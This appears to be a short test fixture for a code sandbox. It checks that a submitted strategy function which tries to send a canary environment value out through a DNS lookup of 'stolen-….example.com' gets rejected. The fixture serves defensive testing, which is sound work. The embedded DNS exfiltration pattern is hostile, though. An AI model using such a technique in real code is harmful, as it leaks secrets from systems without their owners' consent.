// expect: SANDBOX_VIOLATION
// filter: CODE_REJECTED
// A DNS query that would carry data out in the name: there is no dns module.
export const params = { canaryPath: '', canaryPort: 0, canaryEnv: '' };
export async function strategy(_data, p) {
  const dns = await import('node:dns');
  await dns.promises.lookup(`stolen-${p.canaryEnv}.example.com`);
  return { entries: [] };
}
